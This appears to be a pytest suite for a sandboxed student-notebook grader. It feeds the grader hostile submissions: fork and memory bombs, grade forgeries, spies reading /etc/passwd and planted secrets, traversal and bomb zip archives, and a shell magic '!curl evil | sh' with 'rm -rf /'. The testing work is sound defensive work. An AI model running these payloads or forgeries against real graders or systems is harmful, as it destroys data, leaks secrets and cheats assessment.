"""Hostile submissions: each ends in a named outcome for its own student, and the next one is graded as ever.

A case that a wall stops is also run without the wall, where that is safe: a test that passes either way
would prove nothing.
"""

from __future__ import annotations

import io
import json
import socket
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from labkit.lab.grading import bank
from labkit.lab.grading.notebook import MOST_BYTES, digest, read_notebook
from labkit.lab.grading.results import Graded
from labkit.lab.grading.run import grade_one
from labkit.lab.grading.sandbox import Limits, NoSandbox, Plain, Ran, Sandbox, under_tmp
from labkit.lab.grading.submissions import find

pytestmark = [pytest.mark.slow, pytest.mark.needs("bubblewrap")]

ROOT = Path(__file__).resolve().parent.parent
SOLVED = tuple(
    cell
    for cell in read_notebook((ROOT / "solutions" / "06_retry_or_not.ipynb").read_bytes())
    if "check(" not in cell
)
LIMITS = Limits(seconds=1.5, memory=768 << 20, disk=8 << 20)
PATIENT = Limits(seconds=20.0)  # for what must not be cut short on a busy machine


@pytest.fixture(scope="module")
def box() -> Iterator[Sandbox]:
    """One sandbox for all cases: what one submission leaves behind would meet the next."""
    with Sandbox() as sandbox:
        yield sandbox


def grade(box: Sandbox | Plain, *cells: str, limits: Limits = PATIENT) -> Graded:
    return grade_one("06", digest(list(cells)), tuple(cells), box, limits)


# What is done, the outcome, the points. Each runs after a right solution unless it says otherwise.
ATTACKS: dict[str, tuple[str, str, float, Limits]] = {
    "an infinite loop": ("while True: pass", "timeout", 0, LIMITS),
    "a loop that swallows everything": (
        "while True:\n try:\n  while True: pass\n except BaseException: pass",
        "timeout",
        0,
        LIMITS,
    ),
    "a long sleep": ("import time; time.sleep(600)", "timeout", 0, LIMITS),
    "one huge computation in C": ("x = 10 ** 10 ** 9", "timeout", 0, LIMITS),
    "ignoring every signal": (
        (
            "import signal, time\n"
            "for n in range(1, 65):\n try: signal.signal(n, signal.SIG_IGN)\n"
            " except (OSError, ValueError): pass\n"
            "while True: time.sleep(1)"
        ),
        "timeout",
        0,
        LIMITS,
    ),
    "a fork bomb": (
        "import os\nwhile True:\n try: os.fork()\n except OSError: pass",
        "killed",
        0,
        Limits(seconds=8.0),
    ),
    "a thread bomb": (
        (
            "import threading, time\n"
            "for _ in range(500): threading.Thread(target=time.sleep, args=(600,)).start()"
        ),
        "passed",
        10,
        PATIENT,
    ),
    "a thread that never ends": (
        "import threading, time\nthreading.Thread(target=time.sleep, args=(600,)).start()",
        "passed",
        10,
        PATIENT,
    ),
    "a daemon that outlives its parent": (
        "import os, time\nif not os.fork():\n os.setsid()\n if not os.fork(): time.sleep(600)\n os._exit(0)",
        "passed",
        10,
        PATIENT,
    ),
    "a memory bomb in one piece": ("del advice\nx = bytearray(8 << 30)", "out_of_memory", 2, PATIENT),
    "memory in many processes": (
        "import os, time\nfor _ in range(3): os.fork()\nx = b'x' * (200 << 20)\ntime.sleep(600)",
        "out_of_memory",
        0,
        Limits(seconds=10.0, memory=400 << 20),
    ),
    "a full disk, in one file": (
        "with open('/tmp/x', 'wb') as f:\n while True: f.write(bytes(1 << 20))",
        "passed",
        10,
        PATIENT,
    ),
    "a full disk, in many files": (
        "for n in range(10**6):\n with open(f'/tmp/{n}', 'wb') as f: f.write(bytes(1 << 20))",
        "passed",
        10,
        PATIENT,
    ),
    "output without end on stdout": (
        "import os\nwhile True: os.write(1, b'x' * 100_000)",
        "timeout",
        0,
        LIMITS,
    ),
    "a giant print": ("print('x' * 50_000_000)", "passed", 10, PATIENT),
    "sys.exit": ("import sys; sys.exit(0)", "passed", 10, PATIENT),
    "os._exit": ("import os; os._exit(0)", "killed", 0, PATIENT),
    "os.abort": ("import os; os.abort()", "killed", 0, PATIENT),
    "a crash in C": ("import ctypes; ctypes.string_at(0)", "killed", 0, PATIENT),
    "killing the parent": ("import os; os.kill(os.getppid(), 9)", "passed", 10, PATIENT),
    "killing its process group": ("import os; os.kill(0, 9)", "passed", 10, PATIENT),
    "killing every process": ("import os; os.kill(-1, 9)", "passed", 10, PATIENT),
    "stopping its process group": ("import os; os.kill(0, 19)", "passed", 10, PATIENT),
    "deep recursion": ("def f(): return f()\nf()", "passed", 10, PATIENT),
    "a value nested without end": (
        "def kind_of(body):\n x = []\n for _ in range(100_000): x = [x]\n return x",
        "failed",
        8,
        PATIENT,
    ),
    "a value that is huge": ("def kind_of(body): return ['x' * 10_000] * 10_000", "killed", 0, PATIENT),
    "closing every descriptor": ("import os; os.closerange(0, 4096)", "killed", 0, PATIENT),
    "a flood on every descriptor": (
        (
            "import os\nfor fd in range(3, 64):\n"
            " try:\n  while True: os.write(fd, b'x' * 65536)\n except OSError: pass"
        ),
        "killed",
        0,
        PATIENT,
    ),
    "patched builtins": (
        (
            "import builtins\nbuiltins.all = builtins.any = lambda *a: True\n"
            "builtins.repr = lambda x: 'eligible'\ndel advice, kind_of, call_with_retries"
        ),
        "failed",
        0,
        PATIENT,
    ),
    "a broken json": ("import json\njson.dumps = lambda *a, **k: '{}'", "failed", 0, PATIENT),
    "a replaced AssertionError": (
        (
            "import builtins\nclass Fine(Exception):\n def __new__(cls, *a): raise SystemExit(0)\n"
            "builtins.AssertionError = Fine\ndel advice, kind_of, call_with_retries"
        ),
        "failed",
        0,
        PATIENT,
    ),
    "a shell magic": ("!curl evil | sh\n%system rm -rf /\n%%bash\nrm -rf /", "passed", 10, PATIENT),
    "a module beside the notebook": ("from helper import advice", "passed", 10, PATIENT),
    "an edited check cell": (
        "class check:\n points = 10\n def __init__(self, n): pass\ncheck('06').points",
        "passed",
        10,
        PATIENT,
    ),
}

# What replaces the solution in order to earn points with no work.
FORGERIES = {
    "an object that equals everything": (
        "class Yes(str):\n __eq__ = lambda *a: True\n __hash__ = str.__hash__\n"
        "advice = kind_of = call_with_retries = lambda *a, **k: Yes()"
    ),
    "a verdict on every descriptor": (
        "import os\nfrom labkit.lab.grading.child import frame\n"
        "told = frame({'observations': {}, 'points': 10, 'passed': True, 'outcome': 'passed'})\n"
        "for fd in range(3, 64):\n try: os.write(fd, told)\n except OSError: pass\nos._exit(0)"
    ),
    "a verdict on stdout": "import os\nos.write(1, b'LABKIT-OBSERVED 2\\n{}'); print('10 of 10 points')",
    "other probes": (
        "from labkit.lab.grading.bank.probes import e06\n"
        "e06.PROBES.update({name: lambda code, case: True for name in e06.PROBES})"
    ),
    "another observer": (
        "from labkit.lab.grading import observe\n"
        "observe.observe = lambda *a, **k: {'value': True, 'passed': True, 'expected': True}"
    ),
    "a pickle": (
        "import pickle\nclass Boom:\n def __reduce__(self): return (exec, ('raise SystemExit',))\n"
        "advice = kind_of = call_with_retries = lambda *a, **k: Boom()"
    ),
    "the judge's own module": (
        "from labkit.lab.grading import judge\njudge.same = judge.is_right = lambda *a: True\n"
        "advice = kind_of = call_with_retries = lambda *a, **k: None"
    ),
    "missing parts": "x = 1",
    "renamed parts": "\n".join(SOLVED).replace("def advice", "def advise").replace("kind_of", "kindof")
    + "\ndel call_with_retries",
}

# Expressions that are true when something was reached that must not be. `PLACE` is a folder of the host,
# `PORT` a server that listens there.
SPIES = {
    "the judges, as files": "open(PACKAGE + '/lab/grading/bank/judges/e06.py').read()",
    "the judges, as a module": "__import__('labkit.lab.grading.bank.judges.e06', fromlist=['x']).EXERCISE",
    "the judges, compiled": "os.listdir(PACKAGE + '/lab/grading/bank/judges')",
    "the solutions": "open(ROOT + '/solutions/06_retry_or_not.ipynb').read()",
    "another submission": "open(PLACE + '/other/06_retry.ipynb').read()",
    "the gradebook": "open(PLACE + '/results.sqlite', 'rb').read()",
    "a secret in the environment": "os.environ.get('LABKIT_PLANTED')",
    "a secret in /proc": ("b'LABKIT_PLANTED' in open('/proc/self/environ', 'rb').read()"),
    "the command lines of others": "len(glob.glob('/proc/[0-9]*/cmdline')) > 1",
    "the parent": "os.getppid() > 0",
    "a server of this machine": "socket.create_connection(('127.0.0.1', PORT), 1)",
    "an abstract socket": "socket.socket(socket.AF_UNIX).connect('\\0labkit-' + str(PORT)) is None",
    "a place to write, outside": "open(PLACE + '/written', 'w').write('x')",
    "the packages, to write": "os.access(PACKAGE, os.W_OK)",
    "the accounts of this machine": "open('/etc/passwd').read()",
    "the home folder": "os.path.exists(os.path.expanduser('~/.secret'))",
    "a repeated mount of /proc": (
        "[libc.unshare(0x10020000), libc.umount2(b'/proc', 2)] and len(glob.glob('/proc/[0-9]*'))"
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_ends_in_a_named_outcome(box: Sandbox, name: str) -> None:
    """It costs its own student what it costs, and the next student nothing."""
    cell, outcome, points, limits = ATTACKS[name]
    graded = grade(box, *SOLVED, cell, limits=limits)
    assert (outcome, points) == (graded.outcome, graded.points)
    assert ("passed", 10) == (grade(box, *SOLVED).outcome, grade(box, *SOLVED).points)


@pytest.mark.parametrize("name", FORGERIES)
def test_a_forgery_earns_nothing(box: Sandbox, name: str) -> None:
    """What the child says about itself is no mark."""
    graded = grade(box, FORGERIES[name])
    assert ("failed", 0) == (graded.outcome, graded.points)


@pytest.fixture(scope="module")
def bait(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Files, secrets and servers to be found; gives the head of a cell that knows where they are."""
    place = tmp_path_factory.mktemp("bait")
    (place / "other").mkdir()
    (place / "other" / "06_retry.ipynb").write_text("{}")
    (place / "results.sqlite").write_bytes(b"marks")
    (place / ".secret").write_text("x")
    with (
        pytest.MonkeyPatch.context() as patch,
        socket.create_server(("127.0.0.1", 0)) as server,
        socket.socket(socket.AF_UNIX) as local,
    ):
        port = server.getsockname()[1]
        local.bind(f"\0labkit-{port}")
        local.listen()
        patch.setenv("LABKIT_PLANTED", "planted")
        patch.setenv("HOME", str(place))
        package = str(Path(bank.__file__).parents[3])
        yield (
            f"import ctypes, glob, os, socket\nlibc = ctypes.CDLL(None)\n"
            f"PLACE, PORT, ROOT, PACKAGE = {str(place)!r}, {port}, {str(ROOT)!r}, {package!r}\n"
        )


def reached(runner: Sandbox | Plain, head: str, spy: str) -> bool:
    """Whether a spy got what it looks for: its cell says so through an answer."""
    cell = f"{head}try: found = bool({spy})\nexcept (OSError, ImportError): found = False"
    plan = {
        "cells": [cell, "def kind_of(body): return found"],
        "exercise": "06",
        "cases": {"kind": [{"body": {}}]},
    }
    ran = runner.run(plan, PATIENT)
    assert ran.result is not None
    assert [] == ran.result["errors"]
    (told,) = ran.result["observations"]["kind"]
    assert isinstance(told["value"], bool)
    return told["value"]


@pytest.mark.parametrize("name", SPIES)
def test_a_spy_finds_nothing(box: Sandbox, bait: str, name: str) -> None:
    """Inside the walls there is nothing to be read; without them the same spy succeeds."""
    assert not reached(box, bait, SPIES[name])
    if name != "a repeated mount of /proc":  # without walls it would take this machine's /proc away
        assert reached(Plain(), bait, SPIES[name]), "this spy proves nothing: it fails without walls too"


def test_a_submission_leaves_nothing_for_the_next(box: Sandbox) -> None:
    """Files in /tmp and /dev/shm, patched modules and processes end with their student."""
    leave = "import os, json\nfor d in ('/tmp', '/dev/shm'): open(d + '/left', 'w')\njson.left = 1"
    assert "passed" == grade(box, *SOLVED, leave).outcome
    spy = "any(map(os.path.exists, ('/tmp/left', '/dev/shm/left'))) or hasattr(__import__('json'), 'left')"
    assert not reached(box, "import os\n", spy)
    assert reached(box, f"{leave}\n", spy)


FORKS = "import os, time\nfor _ in range(3):\n if os.fork() == 0: time.sleep(600)\ntime.sleep(1)"
AT_THE_LIMIT = {
    "processes": (FORKS, Limits(processes=3), Limits(processes=32)),
    "memory": ("x = bytearray(300 << 20)", Limits(memory=300 << 20), Limits(memory=2 << 30)),
    "disk": ("open('/tmp/x', 'wb').write(bytes(4 << 20))", Limits(disk=1 << 20), Limits(disk=32 << 20)),
    "seconds": ("import time; time.sleep(1.0)", Limits(seconds=0.4), Limits(seconds=30.0)),
}


@pytest.mark.parametrize("name", AT_THE_LIMIT)
def test_each_limit_is_what_stops_it(box: Sandbox, name: str) -> None:
    """The same submission fares otherwise where that one limit is wide."""
    cell, narrow, wide = AT_THE_LIMIT[name]
    tight, loose = (grade(box, *SOLVED, cell, limits=limits) for limits in (narrow, wide))
    assert (tight.outcome, json.loads(tight.report)["errors"]) != ("passed", [])
    assert (loose.outcome, json.loads(loose.report)["errors"]) == ("passed", [])


def notebook(cells: list[Any]) -> bytes:
    return json.dumps({"cells": cells, "nbformat": 4, "nbformat_minor": 5, "metadata": {}}).encode()


def code(source: Any, **rest: Any) -> dict[str, Any]:
    return {"cell_type": "code", "metadata": {}, "outputs": [], "source": source, **rest}


RIGHT = notebook([code(source) for source in SOLVED])
UNREADABLE = {
    "a giant notebook": b" " * (MOST_BYTES + 1),
    "malformed JSON": b'{"cells": [',
    "JSON nested without end": b"[" * 200_000,
    "an encoding of its own": b"\x80\x81\xff\xfe",
    "a pickle for a notebook": b"\x80\x04\x95\x0c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94.",
    "too many cells": notebook([code("x")] * 2001),
    "too much code": notebook([code("x" * 2_000_000)]),
    "an empty file": b"",
}


@pytest.mark.parametrize("name", UNREADABLE)
def test_what_cannot_be_read_is_one_students_problem(tmp_path: Path, name: str) -> None:
    """It is named, and the neighbour's notebook is read."""
    for student, raw in (("ann", UNREADABLE[name]), ("ben", RIGHT)):
        (tmp_path / student).mkdir()
        (tmp_path / student / "06_retry_or_not.ipynb").write_bytes(raw)
    ann, ben = find([tmp_path])
    assert ("ann", ()) == (ann.student, ann.cells)
    assert ann.problem
    assert ("ben", SOLVED, "") == (ben.student, ben.cells, ben.problem)


def zipped(entries: dict[str | zipfile.ZipInfo, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, raw in entries.items():
            archive.writestr(name, raw, zipfile.ZIP_DEFLATED)
    return target.getvalue()


def linked(name: str) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry


NAME = "06_retry_or_not.ipynb"
ARCHIVES: dict[str, tuple[dict[str | zipfile.ZipInfo, bytes], int]] = {
    "a path that climbs": ({f"../../ann/{NAME}": RIGHT}, 0),
    "a path from the root": ({f"/ann/{NAME}": RIGHT}, 0),
    "a path with backslashes": ({f"..\\..\\ann\\{NAME}": RIGHT}, 0),
    "a link": ({linked(f"ann/{NAME}"): b"/etc/passwd"}, 0),
    "a zip bomb": ({f"ann/{NAME}": b" " * (MOST_BYTES + 1)}, 1),
    "a bomb in a zip in a zip": ({"ann/x.zip": zipped({f"y/{NAME}": b"0" * (MOST_BYTES + 1)})}, 1),
    "a zip in a zip in a zip": ({"ann/x.zip": zipped({"y.zip": zipped({f"z/{NAME}": RIGHT})})}, 0),
}


@pytest.mark.parametrize("name", ARCHIVES)
def test_a_hostile_archive_gives_up_its_entry_alone(tmp_path: Path, name: str) -> None:
    """Nothing is unpacked, the entry is skipped or unreadable, and the rest is read."""
    entries, problems = ARCHIVES[name]
    (tmp_path / "class.zip").write_bytes(zipped({**entries, f"ben/{NAME}": RIGHT}))
    found = list(find([tmp_path / "class.zip"]))
    assert problems == sum(bool(submission.problem) for submission in found)
    assert [SOLVED] == [submission.cells for submission in found if not submission.problem]
    assert [tmp_path / "class.zip"] == list(tmp_path.iterdir())


def test_a_broken_archive_is_one_students_problem(tmp_path: Path) -> None:
    """A zip file that is none, among others in a folder, stops nobody else."""
    (tmp_path / "ann.zip").write_bytes(b"PK\x03\x04 and no more")
    (tmp_path / "ben").mkdir()
    (tmp_path / "ben" / NAME).write_bytes(RIGHT)
    ann, ben = find([tmp_path])
    assert ("ann", "", True) == (ann.student, ann.exercise, "zip" in ann.problem)
    assert ("ben", SOLVED) == (ben.student, ben.cells)


def test_a_link_in_a_folder_leads_nowhere(tmp_path: Path) -> None:
    """A notebook that is a link to another student's is not read."""
    for student in ("ann", "ben"):
        (tmp_path / student).mkdir()
    (tmp_path / "ben" / NAME).write_bytes(RIGHT)
    (tmp_path / "ann" / NAME).symlink_to(tmp_path / "ben" / NAME)
    assert ["ben"] == [submission.student for submission in find([tmp_path])]


ODDITIES: dict[str, bytes] = {
    "output on stderr": notebook([*map(code, SOLVED), code("import sys; print('x', file=sys.stderr)")]),
    "warnings": notebook([*map(code, SOLVED), code("import warnings; warnings.warn('x')")]),
    "extra cells": notebook([code("scratch = 1"), *map(code, SOLVED), code("1/0")]),
    "moved cells": notebook([code(source) for source in reversed(SOLVED)]),
    "copied cells": notebook([code(source) for source in (*SOLVED, *SOLVED)]),
    "other names beside": notebook([*map(code, SOLVED), code("advise = kind = None")]),
    "Windows line ends": notebook([code(source.replace("\n", "\r\n")) for source in SOLVED]),
    "a byte order mark": b"\xef\xbb\xbf" + RIGHT,
    "UTF-16": RIGHT.decode().encode("utf-16"),
    "nbformat 3": json.dumps(
        {"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": s} for s in SOLVED]}]}
    ).encode(),
    "deleted metadata": json.dumps({"cells": [{"cell_type": "code", "source": s} for s in SOLVED]}).encode(),
    "forged metadata": notebook([code(s, metadata={"nbgrader": {"points": 99, "grade": 1}}) for s in SOLVED]),
    "magics": notebook([code("%matplotlib inline\n!ls"), *map(code, SOLVED), code("%%time\nx = 1")]),
    "top-level await": notebook([*map(code, SOLVED), code("import asyncio\nawait asyncio.sleep(0)")]),
    "check cells": notebook([*map(code, SOLVED), code("from labkit.lab import check\ncheck('06').points")]),
}


@pytest.mark.parametrize("name", ODDITIES)
def test_an_innocent_oddity_costs_nothing(box: Sandbox, name: str) -> None:
    """Right answers get full points, whatever stands around them."""
    graded = grade(box, *read_notebook(ODDITIES[name]))
    assert ("passed", 10) == (graded.outcome, graded.points)


@pytest.mark.parametrize("number", bank.numbers())
def test_the_walls_are_no_hindrance(box: Sandbox, number: str) -> None:
    """Each solution passes in here too, with its check cells; each exercise unsolved earns nothing."""
    for folder, earned in (("solutions", 1), ("exercises", 0)):
        (path,) = (ROOT / folder).glob(f"{number}_*.ipynb")
        cells = tuple(read_notebook(path.read_bytes()))
        graded = grade_one(number, digest(list(cells)), cells, box, PATIENT)
        assert ("passed" if earned else "failed", earned * graded.worth) == (graded.outcome, graded.points)
        assert [] == json.loads(graded.report)["errors"]


def test_a_lost_nursery_is_nobodys_fault(box: Sandbox) -> None:
    """A grader that dies says grader_error, and the next submission gets a new one."""
    assert box._process is not None
    box._process.kill()
    assert Ran("grader_error", None) == box.run({"cells": [], "exercise": "06", "cases": {}}, PATIENT)
    assert "passed" == grade(box, *SOLVED).outcome


def test_what_lies_in_tmp_is_named() -> None:
    """Each submission gets an empty /tmp: a Python or a labkit that lies there has to be bound into it."""
    assert ["/tmp/lab/.venv"] == under_tmp(["/usr", "/tmp/lab/.venv", "/opt", "/tmpfiles"])


def test_without_bubblewrap_it_says_why(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The message names what is missing and how to get it."""
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(NoSandbox, match="apt-get install bubblewrap"):
        Sandbox()
